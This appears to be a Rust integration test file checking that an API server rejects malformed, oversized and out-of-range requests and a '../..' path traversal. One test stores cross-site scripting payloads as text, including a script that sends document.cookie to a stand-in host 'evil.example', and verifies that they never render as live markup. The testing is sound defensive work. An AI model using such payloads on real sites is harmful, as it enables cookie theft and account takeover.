//! Bodies that no client of ours would send. Every answer is one of ours, none is our fault, and afterwards the
//! server is as before.

use super::places::{Things, method, name, path, place, with_json};
use crate::support::{
    App,
    client::{Answer, Client},
    people::{Person, note, text, unknown},
};
use alumia_server::api::Route;
use reqwest::{Method, RequestBuilder};
use serde_json::{Value, json};

/// Sends raw bytes as JSON.
fn raw(client: &Client, route: &Route, things: &Things, body: impl Into<reqwest::Body>) -> RequestBuilder {
    let path = path(route, things) + &place(route, things).1;
    client.api(method(route), &path).header("content-type", "application/json").body(body)
}

pub async fn healthy(person: &Person) {
    assert_eq!(Answer::of(person.request(Method::GET, "/readyz")).await.status, 200);
    assert_eq!(person.get("/me").await.status, 200);
}

#[tokio::test]
async fn what_is_not_json_of_the_right_shape_is_400() {
    let app = App::start().await;
    let ada = app.person("Ada").await;
    app.step_up(&ada).await;
    let things = Things::made_by(&app, &ada, json!({})).await;
    let odd: [&[u8]; 4] = [
        b"{\"content\":\"\\ud800\",\"name\":\"\\ud800\",\"email\":\"\\ud800\",\"password\":\"\"}",
        b"{\"version\":1e999,\"enabled\":1e999}",
        b"{\"id\":123456789012345678901234567890,\"version\":-123456789012345678901234567890}",
        b"{\"name\":\"a\",\"name\":\"b\"}",
    ];
    let deep = |open: &str, close: &str| (open.repeat(100_000) + &close.repeat(100_000)).into_bytes();
    let bodies: Vec<Vec<u8>> = vec![
        b"".to_vec(),
        b"{".to_vec(),
        b"null".to_vec(),
        b"42".to_vec(),
        b"\"text\"".to_vec(),
        b"[]".to_vec(),
        b"[[]]".to_vec(),
        b"{}{}".to_vec(),
        b"{\"name\":\"\xff\"}".to_vec(),
        b"\xef\xbb\xbf{}".to_vec(),
        b"{\"name\":\"a\\u0000b\"}".to_vec(),
        b"{\"a\\u0000b\":1}".to_vec(),
        b"{name: 'x'}".to_vec(),
        deep("[", "]")[..120_000].to_vec(),
        deep("{\"a\":", "}")[..120_000].to_vec(),
    ];
    for route in with_json() {
        for body in &bodies {
            let answer = Answer::of(raw(&ada, &route, &things, body.clone())).await;
            let shown = String::from_utf8_lossy(&body[..body.len().min(40)]);
            let (status, code, _) = answer.refusal();
            assert_eq!((status, code.as_str()), (400, "BAD_REQUEST"), "{}: {shown}: {answer}", name(&route));
        }
        // Wrong only where the route looks at it.
        for body in odd {
            let answer = Answer::of(raw(&ada, &route, &things, body)).await;
            assert!(answer.status < 500, "{}: {answer}", name(&route));
        }
        let query = place(&route, &things).1;
        let request = ada.api(method(&route), &(path(&route, &things) + &query));
        let answer = Answer::of(request.header("content-type", "text/html").body("{}")).await;
        assert_eq!(answer.status, 400, "{}: not said to be JSON: {answer}", name(&route));
    }
    healthy(&ada).await;
}

#[tokio::test]
async fn what_is_too_large_is_413_and_its_sender_sees_that() {
    let app = App::start().await;
    let ada = app.person("Ada").await;
    app.step_up(&ada).await;
    let things = Things::made_by(&app, &ada, json!({})).await;
    let large = "x".repeat(10 * 1024 * 1024);
    for route in with_json() {
        let answer = Answer::of(raw(&ada, &route, &things, large.clone())).await;
        assert_eq!(answer.refusal().1, "PAYLOAD_TOO_LARGE", "{}", name(&route));
    }
    // At the limit it is read.
    let padded = |size: usize| format!("{{\"name\":\"Large\"}}{}", " ".repeat(size - 16));
    let send = async |body: String| {
        let request = ada.api(Method::POST, "/projects").header("content-type", "application/json");
        Answer::of(request.body(body)).await.status
    };
    assert_eq!((send(padded(128 * 1024)).await, send(padded(128 * 1024 + 1)).await), (201, 413));
    // A file may be larger.
    let at = format!("/projects/{}/files/content?path=large.bin", things.project);
    assert_eq!(ada.put(&at, large.clone()).await.status, 200);
    assert_eq!(ada.get(&at).await.bytes.len(), large.len());
    healthy(&ada).await;
}

#[tokio::test]
async fn unknown_fields_are_ignored_except_where_content_would_be_lost() {
    let app = App::start().await;
    let ada = app.person("Ada").await;
    // A newer client may say more than this server knows.
    let form =
        json!({ "name": "x", "isAdmin": true, "orgId": unknown(), "createdBy": unknown(), "id": unknown() });
    let project = ada.post("/projects", &form).await.data();
    assert_eq!(project["createdBy"], ada.user.to_string());
    assert_eq!(project["orgId"], ada.org_id);
    assert_ne!(project["id"], form["id"]);
    // A block's content is kept as it is or refused.
    let mut block = note("x");
    block["content"]["data"]["script"] = json!("alert(1)");
    let answer = ada.post(&format!("/projects/{}/blocks", text(&project["id"])), &block).await;
    assert_eq!(answer.refusal().1, "BAD_REQUEST", "{answer}");
}

#[tokio::test]
async fn values_out_of_range_are_422_and_name_the_field() {
    let app = App::start().await;
    let ada = app.person("Ada").await;
    let Things { project, session, block, .. } = Things::made_by(&app, &ada, json!({})).await;
    let long = |length: usize| "ü".repeat(length);
    let mut nested = json!(1);
    for _ in 0..100 {
        nested = json!({ "a": nested });
    }
    let position = |x: f64, width: f64| json!({ "x": x, "y": 0, "width": width, "height": 0 });
    let place = |position: Value| {
        json!({ "moves": [
        { "node": { "type": "block", "id": block }, "position": position },
    ] })
    };
    let many: Vec<Value> =
        (0..11).map(|_| json!({ "name": "a", "mediaType": "b", "path": "c", "size": 1 })).collect();
    let say = |content: &str| json!({ "id": unknown(), "content": content });
    let table = [
        (Method::POST, "/projects".to_owned(), json!({ "name": long(256) }), "name"),
        (Method::POST, "/projects".into(), json!({ "name": "a\u{202E}b" }), "name"),
        (Method::POST, "/projects".into(), json!({ "name": "x", "description": long(5_001) }), "description"),
        (Method::POST, "/projects".into(), json!({ "name": "x", "prompt": long(12_001) }), "prompt"),
        (Method::POST, "/projects".into(), json!({ "name": "x", "emoji": long(17) }), "emoji"),
        (Method::POST, "/projects".into(), json!({ "name": "x", "tags": [long(51)] }), "tags"),
        (Method::POST, "/projects".into(), json!({ "name": "x", "metadata": [] }), "metadata"),
        (Method::POST, "/projects".into(), json!({ "name": "x", "metadata": nested }), "metadata"),
        (Method::PATCH, format!("/projects/{project}"), json!({ "status": "lost" }), "status"),
        (
            Method::PATCH,
            format!("/projects/{project}"),
            json!({ "metadata": { "a": long(20_000) } }),
            "metadata",
        ),
        (Method::POST, "/sessions".into(), json!({ "projectId": project, "label": long(256) }), "label"),
        (Method::POST, "/sessions".into(), json!({ "projectId": project, "metadata": nested }), "metadata"),
        (Method::PATCH, format!("/sessions/{session}"), json!({ "metadata": nested }), "metadata"),
        (Method::POST, format!("/sessions/{session}/messages"), say(" \n "), "content"),
        (Method::POST, format!("/sessions/{session}/messages"), say(&"x".repeat(100_001)), "content"),
        (
            Method::POST,
            format!("/sessions/{session}/messages"),
            json!({ "id": unknown(), "content": "x", "attachments": many }),
            "attachments",
        ),
        (
            Method::POST,
            "/chat".into(),
            json!({ "sessionId": session, "message": say("x"), "model": long(256) }),
            "model",
        ),
        (Method::PATCH, format!("/blocks/{block}"), json!({ "version": 1, "title": long(256) }), "title"),
        (
            Method::PATCH,
            format!("/blocks/{block}"),
            json!({ "version": 1, "position": position(1e7, 1.0) }),
            "position/x",
        ),
        (
            Method::PATCH,
            format!("/projects/{project}/blocks/positions"),
            place(position(0.0, -1.0)),
            "moves/0/position/width",
        ),
        (Method::GET, format!("/projects/{project}/files?folder=../.."), json!(null), "path"),
        (Method::GET, format!("/projects/{project}/blocks?limit=0"), json!(null), "limit"),
        (Method::GET, format!("/sessions/{session}/events?limit=501"), json!(null), "limit"),
        (Method::GET, format!("/chat/{session}/stream?protocol=smoke"), json!(null), "protocol"),
    ];
    for (method, path, body, field) in table {
        let answer = Answer::of(ada.api(method.clone(), &path).json(&body)).await;
        assert_eq!(answer.refusal().1, "VALIDATION_ERROR", "{method} {path} {field}: {answer}");
        let fields = answer.error()["details"]["fields"].clone();
        assert!(fields[field].is_string(), "{method} {path} {field}: {answer}");
    }
    // What was refused has changed nothing, and what is stored can be read.
    for path in [format!("/projects/{project}/snapshot"), format!("/sessions/{session}/events")] {
        ada.get(&path).await.data();
    }
    healthy(&ada).await;
}

#[tokio::test]
async fn arguments_that_nest_too_deeply_go_back_to_the_model() {
    let app = App::start().await;
    let ada = app.person("Ada").await;
    let session = ada.session(&ada.project("Deep").await).await;
    let deep = format!("{}1{}", "[".repeat(100), "]".repeat(100));
    ada.say(&session, &format!("call file_list {{\"folder\": {deep}}}")).await;
    assert_eq!(ada.settled(&session).await, "idle");
    let events = ada.events(&session).await;
    let retried = events.iter().find(|event| event["kind"] == "tool.retrying").expect("it is told why");
    assert_eq!(retried["data"]["error"]["code"], "invalid_arguments");
    // The conversation goes on.
    ada.say(&session, "help").await;
    assert_eq!(ada.settled(&session).await, "idle");
}

#[tokio::test]
async fn content_that_would_run_is_kept_as_words() {
    let app = App::start().await;
    let ada = app.person("Ada").await;
    let project = ada.project("Words").await;
    let words = "<script>fetch('https://evil.example/'+document.cookie)</script>\n\
                 <img src=x onerror=alert(1)>\n[x](javascript:alert(1))\n![](https://evil.example/pixel.png)\n\
                 <iframe src=//evil.example></iframe></title></textarea>]]>";
    let mut block = note(words);
    block["title"] = json!(words.lines().next().unwrap());
    let made = ada.post(&format!("/projects/{project}/blocks"), &block).await;
    let block = made.data();
    assert_eq!(block["content"]["data"]["text"], words, "kept as it was written");
    assert_eq!(made.header("content-type"), Some("application/json"));
    // The page that shows it has its policy, and none of it as markup.
    let slug = ada.get(&format!("/projects/{project}")).await.data()["slug"].clone();
    let page = ada.request(Method::GET, &format!("/{}/projects/{}", ada.org, text(&slug)));
    let page = Answer::of(page.header("accept", "text/html")).await;
    assert_eq!(page.status, 200);
    let policy = page.header("content-security-policy").unwrap();
    assert!(policy.contains("default-src 'self'") && policy.contains("object-src 'none'"), "{policy}");
    assert!(!policy.contains("'unsafe-inline' ") && !policy.contains("script-src *"), "{policy}");
    let html = String::from_utf8(page.bytes).unwrap();
    for live in
        ["<script>fetch(", "<img src=x", "<iframe src=//evil", "href=\"javascript:", "src=\"https://evil"]
    {
        assert!(!html.contains(live), "{live}");
    }
    // A file with script in it doesn't open as a page.
    let at = format!("/projects/{project}/files/content");
    for (name, kind) in [("x.html", "application/octet-stream"), ("x.svg", "application/octet-stream")] {
        ada.put(&format!("{at}?path={name}"), words).await;
        let file = ada.get(&format!("{at}?path={name}")).await;
        assert_eq!(file.header("content-type"), Some(kind));
        assert!(file.header("content-disposition").unwrap().starts_with("attachment"));
        assert!(file.header("content-security-policy").unwrap().starts_with("sandbox"));
    }
}
